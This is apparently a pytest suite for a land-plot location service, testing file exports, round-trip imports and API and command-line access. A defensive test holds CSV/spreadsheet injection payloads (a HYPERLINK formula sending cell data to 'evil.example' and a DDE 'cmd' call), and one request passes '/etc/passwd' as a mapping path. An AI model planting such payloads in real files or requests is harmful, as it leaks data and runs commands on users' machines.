"""Exports open in geopandas and a spreadsheet, carry a data dictionary, and import back identical."""

from __future__ import annotations

import sqlite3
from pathlib import Path

import geopandas as gpd
import pyogrio
import pytest
from openpyxl import load_workbook
from sqlalchemy import Engine, text
from typer.testing import CliRunner

from locations.accounts import EVERYWHERE
from locations.errors import InvalidInput
from locations.importer import import_file
from locations.imports.exports import select, write

PLOT_FIELDS = """p.cadastral_ref, z.name, p.status, p.ownership, p.offer, p.price_eur_m2,
    p.allowed_uses, p.readiness, p.brownfield, p.power_mw, p.available_from, p.last_verified,
    ST_AsEWKB(p.boundary)"""


def _plots(engine: Engine, region: str) -> list[tuple]:
    with engine.connect() as conn:
        return [tuple(r) for r in conn.execute(text(
            f"""SELECT {PLOT_FIELDS} FROM plot p JOIN zone z ON z.id = p.zone_id
                JOIN municipality m ON m.id = z.municipality_id JOIN region r ON r.id = m.region_id
                WHERE r.code = :region ORDER BY p.cadastral_ref"""), {"region": region})]


def test_export_then_import_gives_identical_plots(engine: Engine, fresh_engine: Engine,
                                                  tmp_path: Path) -> None:
    original = _plots(engine, "SI042")
    assert len(original) > 50
    path = tmp_path / "gorenjska.gpkg"
    with engine.connect() as conn:
        write(select(conn, "plots", {"region": "SI042"}), path, "plots")
    # Into a database where these plots are gone: the file alone must rebuild them.
    with fresh_engine.begin() as conn:
        conn.execute(text(
            """DELETE FROM plot_event; DELETE FROM plot p USING zone z, municipality m, region r
               WHERE z.id = p.zone_id AND m.id = z.municipality_id AND r.id = m.region_id
                 AND r.code = 'SI042'"""))
    # No --layer: the dictionary beside the plots has no geometry, so the plots are meant.
    report = import_file(fresh_engine, "plots", path)
    assert report.created == len(original), report.describe_problems()
    assert _plots(fresh_engine, "SI042") == original
    with fresh_engine.connect() as conn:
        events = conn.execute(text("SELECT count(*) FROM plot_event WHERE action = 'import'")).scalar_one()
    assert events == len(original)


def test_a_geojson_export_edited_and_imported_back_changes_only_what_was_edited(
        fresh_engine: Engine, tmp_path: Path) -> None:
    """GeoJSON rounds coordinates to 7 decimals (under 1 cm): a municipality that exports
    its plots, edits one price and imports the file back changes that price, not every
    boundary. A boundary really moved (1 m) is still a change."""
    path = tmp_path / "gorenjska.geojson"
    with fresh_engine.connect() as conn:
        write(select(conn, "plots", {"region": "SI042"}), path, "plots")
        before = dict(conn.execute(text("SELECT cadastral_ref, ST_AsEWKB(boundary) FROM plot")).all())
    edited = gpd.read_file(path)
    first, second = edited["cadastral_ref"].iloc[0], edited["cadastral_ref"].iloc[1]
    edited.loc[0, "price_eur_m2"] = 123.45
    edited.loc[1, "geometry"] = gpd.GeoSeries([edited.geometry.iloc[1]], crs=4326).to_crs(
        3035).translate(1.0, 0).to_crs(4326).iloc[0]
    edited.to_file(path, driver="GeoJSON")

    report = import_file(fresh_engine, "plots", path)
    assert (report.created, report.updated, report.unchanged) == (0, 2, len(edited) - 2)
    with fresh_engine.connect() as conn:
        after = dict(conn.execute(text("SELECT cadastral_ref, ST_AsEWKB(boundary) FROM plot")).all())
        events = dict(conn.execute(text(
            "SELECT p.cadastral_ref, e.new_values FROM plot_event e JOIN plot p ON p.id = e.plot_id "
            "WHERE e.action = 'import'")).all())
    assert after[first] == before[first]  # the stored boundary, not the rounded one
    assert events[first] == {"price_eur_m2": 123.45}
    assert after[second] != before[second]
    assert {k: v for k, v in after.items() if k not in (first, second)} == {
        k: v for k, v in before.items() if k not in (first, second)}


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_a_table_export_imports_back_without_naming_its_crs(fresh_engine: Engine, tmp_path: Path,
                                                            suffix: str) -> None:
    """A CSV or XLSX export carries WKT and the lon/lat each WKT surrounds: that tells
    EPSG:4326, so it imports back without --crs. WKT in metres beside lon/lat does not."""
    path = tmp_path / f"gorenjska{suffix}"
    with fresh_engine.connect() as conn:
        write(select(conn, "plots", {"region": "SI042"}), path, "plots")
    report = import_file(fresh_engine, "plots", path)
    assert (report.srid, report.updated, report.created) == (4326, 0, 0)
    assert report.unchanged > 50 and "lon/lat" in report.crs_source

    table = gpd.pd.read_csv(path) if suffix == ".csv" else gpd.pd.read_excel(path, engine="openpyxl")
    metres = gpd.GeoSeries.from_wkt(table["wkt"], crs=4326).to_crs(3794)
    table["wkt"] = metres.to_wkt()
    projected = tmp_path / "projected.csv"
    table.to_csv(projected, index=False)
    with pytest.raises(InvalidInput, match="pass it with --crs"):
        import_file(fresh_engine, "plots", projected)
    assert import_file(fresh_engine, "plots", projected, crs="EPSG:3794").updated == 0


def test_zones_exported_as_geojson_import_back_unchanged(fresh_engine: Engine,
                                                        tmp_path: Path) -> None:
    path = tmp_path / "zones.geojson"
    with fresh_engine.connect() as conn:
        write(select(conn, "zones", {"region": "SI032"}), path, "zones")
        versions = conn.execute(text("SELECT sum(version) FROM zone")).scalar_one()
    report = import_file(fresh_engine, "zones", path)
    assert report.updated == 0 and report.unchanged > 0, report.summary()
    with fresh_engine.connect() as conn:
        assert conn.execute(text("SELECT sum(version) FROM zone")).scalar_one() == versions


def test_every_format_opens_and_carries_its_dictionary(engine: Engine, tmp_path: Path) -> None:
    with engine.connect() as conn:
        frame = select(conn, "plots", {"region": "SI032", "status": ["available"]})
        expected = conn.execute(text(
            "SELECT count(*) FROM plot p JOIN zone z ON z.id = p.zone_id "
            "JOIN municipality m ON m.id = z.municipality_id JOIN region r ON r.id = m.region_id "
            "WHERE r.code = 'SI032' AND p.status = 'available' AND p.retired_at IS NULL")).scalar_one()
    assert len(frame) == expected > 0
    gpkg = tmp_path / "out.gpkg"
    write(frame, gpkg, "plots")
    layers = dict(pyogrio.list_layers(gpkg))
    assert set(layers) == {"plots", "dictionary"}
    read = gpd.read_file(gpkg, layer="plots")
    assert read.crs.to_epsg() == 3035 and len(read) == expected
    assert set(read["status"]) == {"available"}
    dictionary = gpd.read_file(gpkg, layer="dictionary")
    assert {"cadastral_ref", "status", "price_eur_m2"} <= set(dictionary["column"])
    # GeoPackage 1.3: the GDAL of Debian 12 (and its QGIS) warns on opening a 1.4 file.
    with sqlite3.connect(gpkg) as database:
        assert database.execute("PRAGMA user_version").fetchone()[0] == 10300
    # Dates as date fields, which a GIS filters as dates.
    assert dict(zip(*[pyogrio.read_info(gpkg, layer="plots")[k] for k in ("fields", "dtypes")],
                    strict=True))["available_from"] == "datetime64[D]"
    assert read["available_from"].notna().sum() == frame["available_from"].notna().sum() > 0

    geojson = tmp_path / "out.geojson"
    files = write(frame, geojson, "plots")
    assert files[1].name == "out.dictionary.csv"
    assert gpd.read_file(geojson).crs.to_epsg() == 4326

    xlsx = tmp_path / "out.xlsx"
    write(frame, xlsx, "plots")
    workbook = load_workbook(xlsx, read_only=True)
    assert workbook.sheetnames == ["plots", "dictionary"]
    header = next(workbook["plots"].iter_rows(values_only=True))
    assert {"cadastral_ref", "lon", "lat", "wkt"} <= set(header)
    # Written in one pass, the sheet states no size: count its rows as a reader does.
    assert sum(1 for _ in workbook["plots"].iter_rows()) == expected + 1
    assert len(gpd.pd.read_excel(xlsx, sheet_name="plots", engine="openpyxl")) == expected
    # Dates are date cells, which a spreadsheet sorts and reckons with, not text.
    rows = workbook["plots"].iter_rows(min_row=2, values_only=True)
    given = {row[header.index("id")]: row[header.index("available_from")] for row in rows}
    stored = {plot_id: value if isinstance(value, str) else None
              for plot_id, value in zip(frame["id"], frame["available_from"], strict=True)}
    assert any(value is not None for value in given.values())
    for plot_id, value in given.items():
        assert (value.date().isoformat() if value is not None else None) == stored[plot_id]


def test_internal_fields_only_when_asked(engine: Engine) -> None:
    with engine.connect() as conn:
        public = select(conn, "plots", {"zone": "PC Tezno"})
        internal = select(conn, "plots", {"zone": "PC Tezno"}, internal=EVERYWHERE)
        stored = conn.execute(text(
            "SELECT count(owner_contact) FROM plot p JOIN zone z ON z.id = p.zone_id "
            "WHERE z.name = 'PC Tezno'")).scalar_one()
    assert "owner_contact" not in public.columns
    assert "owner_contact" in internal.columns
    assert stored > 0 and internal["owner_contact"].notna().sum() == stored


#: Text a spreadsheet would run: a link that leaks the sheet, arithmetic, a DDE call, and
#: the tab and carriage return that some spreadsheets skip before such a start.
FORMULAS = {"owner_contact": '=HYPERLINK("http://evil.example/?"&A1,"offer")',
            "internal_note": "+1+cmd|' /C calc'!A0"}


def test_formula_like_text_is_exported_as_text(fresh_engine: Engine, tmp_path: Path) -> None:
    """A plot's note written as "=HYPERLINK(...)" must open in Excel as that text, never as
    a live formula: a string cell in the XLSX, a quoted cell in the CSV (OWASP), which the
    import unquotes, so the CSV still imports back unchanged."""
    with fresh_engine.begin() as conn:
        plot_id = conn.execute(text(
            "UPDATE plot SET owner_contact = :owner_contact, internal_note = :internal_note "
            "WHERE id = (SELECT p.id FROM plot p JOIN zone z ON z.id = p.zone_id "
            "WHERE z.name = 'PC Tezno' ORDER BY p.id LIMIT 1) RETURNING id"), FORMULAS).scalar_one()
        conn.execute(text("UPDATE zone SET manager_name = '@SUM(1+1)*cmd', "
                          "manager_phone = '-2+3' WHERE name = 'PC Tezno'"))
    with fresh_engine.connect() as conn:
        plots = select(conn, "plots", {"zone": "PC Tezno"}, internal=EVERYWHERE)
        zones = select(conn, "zones", {"zone": "PC Tezno"})
    write(plots, tmp_path / "plots.xlsx", "plots")
    write(plots, tmp_path / "plots.csv", "plots")
    write(zones, tmp_path / "zones.xlsx", "zones")

    sheet = load_workbook(tmp_path / "plots.xlsx")["plots"]
    header = [cell.value for cell in sheet[1]]
    row = next(r for r in sheet.iter_rows(min_row=2) if r[header.index("id")].value == plot_id)
    for field, formula in FORMULAS.items():
        cell = row[header.index(field)]
        assert (cell.data_type, cell.value) == ("s", formula)
    zone_sheet = load_workbook(tmp_path / "zones.xlsx")["zones"]
    zone_header = [cell.value for cell in zone_sheet[1]]
    manager = zone_sheet.cell(row=2, column=zone_header.index("manager_name") + 1)
    assert (manager.data_type, manager.value) == ("s", "@SUM(1+1)*cmd")

    table = gpd.pd.read_csv(tmp_path / "plots.csv", dtype=str)
    exported = table[table["id"] == str(plot_id)].iloc[0]
    for field, formula in FORMULAS.items():
        assert exported[field] == "'" + formula
    assert not table["cadastral_ref"].str.startswith("'").any()  # plain text stays as it is

    with fresh_engine.connect() as conn:
        versions = conn.execute(text("SELECT sum(version) FROM plot")).scalar_one()
    report = import_file(fresh_engine, "plots", tmp_path / "plots.csv")
    assert (report.updated, report.created) == (0, 0), report.describe_problems()
    with fresh_engine.connect() as conn:
        stored = conn.execute(text("SELECT owner_contact, internal_note FROM plot WHERE id = :id"),
                              {"id": plot_id}).one()
        assert conn.execute(text("SELECT sum(version) FROM plot")).scalar_one() == versions
    assert tuple(stored) == tuple(FORMULAS.values())


def _invoke_cli(engine: Engine, monkeypatch: pytest.MonkeyPatch, *commands: list[str]) -> list:
    """Each command run by the ``locations`` CLI in this process, against ``engine``'s database."""
    from cli.main import app
    from locations.db import get_engine
    from locations.settings import get_settings

    monkeypatch.setenv("DATABASE_URL", engine.url.render_as_string(hide_password=False))
    get_settings.cache_clear()
    get_engine.cache_clear()
    try:
        return [CliRunner().invoke(app, command) for command in commands]
    finally:
        get_settings.cache_clear()
        get_engine.cache_clear()


def test_cli_export_chooses_format_from_extension(engine: Engine, tmp_path: Path,
                                                  monkeypatch: pytest.MonkeyPatch) -> None:
    result, refused = _invoke_cli(
        engine, monkeypatch, ["export", "plots", "--region", "SI042", "-o", str(tmp_path / "out.csv")],
        ["export", "zones", "-o", str(tmp_path / "out.pdf")])
    assert result.exit_code == 0, result.output
    table = gpd.pd.read_csv(tmp_path / "out.csv")
    assert set(table["region_code"]) == {"SI042"}
    assert (tmp_path / "out.dictionary.csv").is_file()
    assert refused.exit_code == 1


def test_cli_export_to_a_folder_that_is_not_there_says_so(engine: Engine, tmp_path: Path,
                                                          monkeypatch: pytest.MonkeyPatch) -> None:
    output = tmp_path / "exports" / "out.gpkg"
    (result,) = _invoke_cli(engine, monkeypatch,
                            ["export", "plots", "--region", "SI042", "-o", str(output)])
    assert result.exit_code == 1
    # The path itself may be wrapped at the terminal's width.
    assert "there is no folder" in " ".join(result.output.split())
    assert "Traceback" not in result.output and not output.parent.exists()


def test_an_export_larger_than_a_spreadsheet_is_refused_not_cut(
        engine: Engine, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Excel holds 1,048,575 rows under its header: a larger XLSX export would lose rows,
    so it is refused with the way out; the same search still goes to a GeoPackage."""
    from locations import formats

    with engine.connect() as conn:
        frame = select(conn, "plots", {"region": "SI032"})
    monkeypatch.setattr(formats, "XLSX_MAX_ROWS", len(frame))
    with pytest.raises(InvalidInput) as refused:
        write(frame, tmp_path / "out.xlsx", "plots")
    assert f"holds {len(frame) - 1:,} rows" in refused.value.reason
    assert "GeoPackage or CSV" in refused.value.reason
    assert not (tmp_path / "out.xlsx").exists()
    monkeypatch.setattr(formats, "XLSX_MAX_ROWS", len(frame) + 1)
    write(frame, tmp_path / "out.xlsx", "plots")
    assert len(gpd.pd.read_excel(tmp_path / "out.xlsx", sheet_name="plots", engine="openpyxl")) == len(frame)


def test_post_imports_is_scoped_to_the_callers_municipalities(fresh_engine: Engine,
                                                              fresh_client) -> None:
    from locations.accounts import create_account

    with fresh_engine.begin() as conn:
        kranj = create_account(conn, "kranj-editor", "municipality", municipalities=["Kranj"])
        admin = create_account(conn, "boss", "admin")
        investor = create_account(conn, "investor", "investor")
    sample = Path(__file__).resolve().parent.parent / "data" / "samples" / "plots-generic.geojson"
    from tests.test_import_samples import make_room_for_samples

    make_room_for_samples(fresh_engine)

    def post(token: str | None, **form: str):
        headers = {"Authorization": f"Bearer {token}"} if token else {}
        with sample.open("rb") as handle:
            return fresh_client.post("/imports", headers=headers, data={"target": "plots", **form},
                                     files={"file": ("plots.geojson", handle, "application/geo+json")})

    assert post(None).status_code == 401
    assert post(investor).status_code == 403
    # The sample holds plots in five municipalities: a Kranj editor may not load them.
    refused = post(kranj)
    assert refused.status_code == 403
    assert "outside your scope" in refused.json()["detail"]
    with fresh_engine.connect() as conn:
        assert conn.execute(text("SELECT count(*) FROM plot WHERE cadastral_ref LIKE 'SAMPLE-%'")).scalar_one() == 0
    # With skip_invalid, only the Kranj plot (PC Hrastje) loads.
    partial = post(kranj, skip_invalid="true")
    assert partial.status_code == 200
    assert partial.json()["created"] == 1
    loaded = post(admin)
    assert loaded.status_code == 200, loaded.json()
    assert (loaded.json()["created"], loaded.json()["unchanged"]) == (4, 1)
    assert post(admin, mapping="/etc/passwd").status_code == 400


# -- any search, whole: what an investor asks, as a file ----------------------------------

INVESTOR_QUERY = {"region": "SI042", "use": "manufacturing", "max_motorway_km": "8",
                  "min_area_m2": "3000"}


def _search_ids(client, query: dict) -> set[int]:
    """Every plot id GET /plots finds for ``query``, page after page."""
    ids, url, params = set(), "/plots", query | {"limit": "7"}
    while url:
        page = client.get(url, params=params).json()
        ids |= {feature["id"] for feature in page["features"]}
        url = next((link["href"] for link in page["links"] if link["rel"] == "next"), None)
        params = None
    return ids


def test_an_api_export_holds_every_plot_the_search_finds(client, tmp_path: Path) -> None:
    expected = _search_ids(client, INVESTOR_QUERY)
    assert len(expected) > 7  # more than a page, so a page would not do
    response = client.get("/exports/plots", params=INVESTOR_QUERY | {"f": "gpkg"})
    assert response.status_code == 200, response.text
    assert response.headers["content-disposition"].endswith('filename="plots.gpkg"')
    assert "/exports/dictionary/plots" in response.headers["link"]
    path = tmp_path / "plots.gpkg"
    path.write_bytes(response.content)
    assert set(gpd.read_file(path, layer="plots")["id"]) == expected
    assert "dictionary" in [name for name, _ in pyogrio.list_layers(path)]
    paged = client.get("/exports/plots", params=INVESTOR_QUERY | {"limit": "10"})
    assert paged.status_code in (400, 422) and "limit" in paged.text
    typo = client.get("/exports/plots", params={"regoin": "SI042"})
    assert typo.status_code in (400, 422) and "regoin" in typo.text


def test_a_cli_export_takes_every_search_filter(engine: Engine, client, tmp_path: Path,
                                                 monkeypatch: pytest.MonkeyPatch) -> None:
    expected = _search_ids(client, INVESTOR_QUERY)
    (result,) = _invoke_cli(engine, monkeypatch, [
        "export", "plots", "--region", "SI042", "--use", "manufacturing",
        "--max-motorway-km", "8", "--min-area", "3000", "-o", str(tmp_path / "out.csv")])
    assert result.exit_code == 0, result.output
    assert set(gpd.pd.read_csv(tmp_path / "out.csv")["id"]) == expected


def test_an_api_export_of_zones(client, tmp_path: Path) -> None:
    response = client.get("/exports/zones", params={"region": "SI032", "f": "xlsx"})
    assert response.status_code == 200, response.text
    path = tmp_path / "zones.xlsx"
    path.write_bytes(response.content)
    zones = gpd.pd.read_excel(path, sheet_name="zones", engine="openpyxl")
    assert len(zones) > 0 and set(zones["region_code"]) == {"SI032"}
    assert "dictionary" in load_workbook(path, read_only=True).sheetnames


def test_a_download_larger_than_the_limit_is_refused_with_the_way_out(
        client, monkeypatch: pytest.MonkeyPatch) -> None:
    from locations.settings import get_settings

    found = len(_search_ids(client, INVESTOR_QUERY))
    monkeypatch.setenv("LOCATIONS_MAX_EXPORT_ROWS", str(found - 1))
    get_settings.cache_clear()
    try:
        refused = client.get("/exports/plots", params=INVESTOR_QUERY | {"f": "csv"})
        page = client.get("/maps/search", params={"region": "SI042", "lang": "en"})
        monkeypatch.setenv("LOCATIONS_MAX_EXPORT_ROWS", str(found))
        get_settings.cache_clear()
        allowed = client.get("/exports/plots", params=INVESTOR_QUERY | {"f": "csv"})
    finally:
        get_settings.cache_clear()
    assert refused.status_code == 400
    assert f"finds {found:,} plots" in refused.text and "LOCATIONS_MAX_EXPORT_ROWS" in refused.text
    assert "locations export plots" in refused.text
    assert allowed.status_code == 200
    assert "too many for one download" in page.text and 'class="download"' not in page.text


def test_a_search_around_a_place_exports_whole_by_post(client, tmp_path: Path) -> None:
    """POST /plots/search's body, a geometry with a distance included, as one file."""
    body = {"geometry": {"type": "Point", "coordinates": [14.3950, 46.2300]}, "within_m": 3000,
            "status": ["available", "reserved"]}
    expected, page = set(), client.post("/plots/search", json=body | {"limit": 5}).json()
    while True:
        expected |= {feature["id"] for feature in page["features"]}
        following = next((link for link in page["links"] if link["rel"] == "next"), None)
        if following is None:
            break
        page = client.post("/plots/search", json=following["body"]).json()
    assert len(expected) > 5
    response = client.post("/exports/plots", params={"f": "csv"}, json=body)
    assert response.status_code == 200, response.text
    path = tmp_path / "plots.csv"
    path.write_bytes(response.content)
    assert set(gpd.pd.read_csv(path)["id"]) == expected
    paged = client.post("/exports/plots", params={"f": "csv"}, json=body | {"cursor": "x"})
    assert paged.status_code in (400, 422) and "cursor" in paged.text


def test_an_export_carries_the_distances_an_investor_compares_by(engine: Engine,
                                                                 tmp_path: Path) -> None:
    path = tmp_path / "shortlist.xlsx"
    with engine.connect() as conn:
        write(select(conn, "plots", {"region": "SI042"}), path, "plots")
        stored = dict(conn.execute(text("SELECT plot_id, motorway_km FROM plot_proximity")).all())
    plots = gpd.pd.read_excel(path, sheet_name="plots", engine="openpyxl")
    assert plots["motorway_km"].notna().all()
    # To 10 m: two decimals of a km.
    assert dict(zip(plots["id"], plots["motorway_km"], strict=True)) == {
        plot_id: pytest.approx(stored[plot_id], abs=0.0051) for plot_id in plots["id"]}
    assert all(round(km, 2) == km for km in plots["motorway_km"])
    dictionary = gpd.pd.read_excel(path, sheet_name="dictionary", engine="openpyxl")
    assert {"motorway_km", "airport_km", "rail_station_km"} <= set(dictionary["column"])


def test_a_zone_search_exports_whole_by_api_and_cli(client, engine: Engine, tmp_path: Path,
                                                    monkeypatch: pytest.MonkeyPatch) -> None:
    """What an agency asks: zones with at least 2 ha available, industrial or logistics."""
    query = {"kind": ["industrial", "logistics"], "min_available_area_m2": "20000"}
    expected = {feature["id"] for feature in client.get("/zones", params=query).json()["features"]}
    assert 0 < len(expected) < len(client.get("/zones").json()["features"])
    response = client.get("/exports/zones", params=query | {"f": "gpkg"})
    assert response.status_code == 200, response.text
    (tmp_path / "zones.gpkg").write_bytes(response.content)
    assert set(gpd.read_file(tmp_path / "zones.gpkg", layer="zones")["id"]) == expected
    assert client.get("/exports/zones", params={"knid": "industrial"}).status_code in (400, 422)
    (result,) = _invoke_cli(engine, monkeypatch, [
        "export", "zones", "--kind", "industrial", "--kind", "logistics",
        "--min-available-area", "20000", "-o", str(tmp_path / "zones.csv")])
    assert result.exit_code == 0, result.output
    assert set(gpd.pd.read_csv(tmp_path / "zones.csv")["id"]) == expected


@pytest.mark.parametrize("bad", [
    {"min_area_m2": 5000, "max_area_m2": 100},  # the search's own rule
    {"verified_since": "2026-05-01", "verified_until": "2026-01-01"},
    {"region": ["XX1"]},  # a region the search does not know
])
def test_an_export_refuses_a_bad_filter_as_the_search_does(engine, client, bad):
    """The export and GET /plots run one filter model: the same field, the same reason."""
    with engine.connect() as conn, pytest.raises(InvalidInput) as refused:
        select(conn, "plots", bad)
    answer = client.get("/plots", params=bad)
    assert answer.status_code == 400
    assert answer.json()["field"] == refused.value.field
    assert answer.json()["detail"] == str(refused.value)


def test_an_export_finds_what_the_search_finds_for_single_word_filters(engine, client):
    """A tier, a date or a region given as one word (as the command line passes them)."""
    filters = {"region": "SI032", "readiness": "serviced", "verified_since": "2000-01-01"}
    with engine.connect() as conn:
        exported = set(select(conn, "plots", filters)["id"])
    found = client.get("/plots", params=filters | {"limit": 1000}).json()["features"]
    assert exported and exported == {feature["id"] for feature in found}
